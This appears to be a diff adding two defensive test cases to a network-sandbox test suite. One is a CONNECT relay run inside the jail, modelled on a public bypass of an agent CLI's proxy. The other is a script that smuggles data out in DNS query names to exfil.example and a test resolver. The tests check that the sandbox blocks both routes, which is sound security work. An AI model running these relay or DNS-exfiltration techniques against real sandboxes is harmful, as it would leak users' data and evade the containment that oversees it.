@@ -934,6 +934,90 @@ def case_proxy_dies(user, cleanup):
     return "job ran to its end, network proxy failed, session went on"
 
 
+# --- 10, 11. public bypasses: a relay in the sandbox; DNS exfiltration -----
+
+# A CONNECT-speaking helper the job runs in its own jail (the bypass of
+# one agent CLI: a relay inside the sandbox that the proxy trusted). Here
+# it listens on the jail's 127.0.0.1:8888 and, for each client, dials
+# the CONNECT line's host itself; then the client tries the real proxy
+# with the same unlisted host.
+HELPER_RELAY = f"""
+import socket, sys, threading
+srv = socket.socket(); srv.bind(("127.0.0.1", 8888)); srv.listen(4)
+def serve():
+    c, _ = srv.accept()
+    line = c.recv(4096).split(b"\\r\\n")[0].split()
+    host, port = line[1].rsplit(b":", 1)
+    try:
+        u = socket.create_connection(("{DIRECT_ADDR}", int(port)), timeout=5)
+        c.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")
+    except OSError as e:
+        c.sendall(b"HTTP/1.1 502 helper: " + str(e).encode() + b"\\r\\n\\r\\n")
+    c.close()
+threading.Thread(target=serve, daemon=True).start()
+def ask(port):
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    s.sendall(b"CONNECT {UNLISTED}:443 HTTP/1.1\\r\\nHost: {UNLISTED}:443\\r\\n\\r\\n")
+    return s.recv(4096).split(b"\\r\\n")[0].decode()
+print("helper:", ask(8888))
+print("proxy:", ask(3128))
+"""
+
+
+def case_helper_relay(user, cleanup):
+    need_tools(("python3",), "python3")
+    ws = make_workspace(cleanup)
+    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
+                     ["python3", "-c", HELPER_RELAY], 30, cleanup)
+    out = str(result.get("stdout", ""))
+    if "helper: HTTP/1.1 502" not in out or "proxy: HTTP/1.1 403" not in out:
+        fail(result, "the relay in the sandbox got through")
+    expect_refused(result, DIRECT_ADDR, 443, "direct_connect", "tcp")
+    expect_refused(result, UNLISTED, 443, "not_allowed")
+    return "the helper's dial refused (direct_connect), the proxy 403 (not_allowed)"
+
+
+# Data in a DNS query name, sent straight to the resolver the host's
+# resolv.conf names (the jail has no resolv.conf; the test passes it),
+# and to 192.0.2.53.
+DNS_EXFIL = """
+import socket, struct, sys
+def query(name):
+    q = struct.pack(">HHHHHH", 0x5353, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
+    return q + struct.pack(">HH", 16, 1)
+for server in sys.argv[1:]:
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    s.sendto(query("73656372657400.exfil.example"), (server, 53))
+    try:
+        s.recv(512)
+        print("answered by", server)
+    except OSError as e:
+        print("no answer from", server, type(e).__name__)
+"""
+
+
+def case_dns_exfil(user, cleanup):
+    need_tools(("python3",), "python3")
+    ws = make_workspace(cleanup)
+    servers = []
+    try:
+        with open("/etc/resolv.conf") as f:
+            servers = [l.split()[1] for l in f
+                       if l.startswith("nameserver") and len(l.split()) > 1]
+    except OSError:
+        pass
+    result = run_job(user, ws, f"[network]\nallow = {LISTED}\n",
+                     ["python3", "-c", DNS_EXFIL] + servers[:1] +
+                     ["192.0.2.53"], 30, cleanup)
+    out = str(result.get("stdout", ""))
+    if "answered by" in out or "no answer from 192.0.2.53" not in out:
+        fail(result, "a DNS query from the jail was answered")
+    expect_refused(result, "192.0.2.53", 53, "direct_connect", "udp")
+    return "no answer; direct_connect udp 53 in the result"
+
+
 # --- main --------------------------------------------------------------------
 
 CASES = (
@@ -951,6 +1035,10 @@ CASES = (
     ("mcp: the run tools take the same narrowing list", case_mcp),
     ("a proxy killed during a job ends the network, not the job, and is "
      "reported", case_proxy_dies),
+    ("connect_relayed_through_a_helper_in_the_sandbox: the helper's own "
+     "dial is a direct_connect, the proxy still refuses", case_helper_relay),
+    ("dns_exfiltration_from_the_jail: no resolver answers, each query "
+     "reported", case_dns_exfil),
 )
 
 
